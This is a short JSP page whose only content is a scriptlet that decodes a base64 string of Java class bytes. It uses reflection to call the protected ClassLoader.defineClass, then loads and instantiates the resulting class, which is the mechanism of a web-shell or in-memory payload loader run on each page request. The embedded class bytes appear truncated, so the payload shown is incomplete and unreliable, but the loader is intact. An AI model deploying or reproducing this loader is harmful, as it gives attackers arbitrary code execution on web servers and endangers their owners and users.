<%
String c = "yv66vgAAADIAHQoABgAPCQAQABEIABIKABMAFAcAFQcAFgEABjxpbml0Pg==";
byte[] b = java.util.Base64.getDecoder().decode(c);
java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
m.setAccessible(true);
((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance();
%>
